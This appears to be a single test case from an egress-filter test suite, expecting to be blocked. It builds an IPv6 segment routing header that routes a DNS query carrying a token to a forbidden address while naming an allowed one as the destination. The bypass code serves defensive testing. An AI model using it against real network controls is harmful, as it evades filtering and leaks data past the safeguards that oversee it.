#!/usr/bin/python3
# id: b12_routing_header
# title: IPv6 routing header of a segment list, by setsockopt: to the allowed address by way of the forbidden one
# needs: user
# expect: block
# why: the address that is judged is not the one that the packet goes to
import sys, os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from bp import *
import struct
def f():
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); segment = lambda a: socket.inet_pton(socket.AF_INET6, a)
    try: s.setsockopt(41, 57, struct.pack('BBBBBBH', 0, 4, 4, 1, 1, 0, 0) + segment('::') + segment(FORB6))
    except OSError as e: cannot(f'no segment routing: {e}')
    s.sendto(dnsq(f'{TOK}.{ANAME}'), (ALLOW6, 53)); time.sleep(.3)
attempt(f, chan=('pkt', 'dns'))
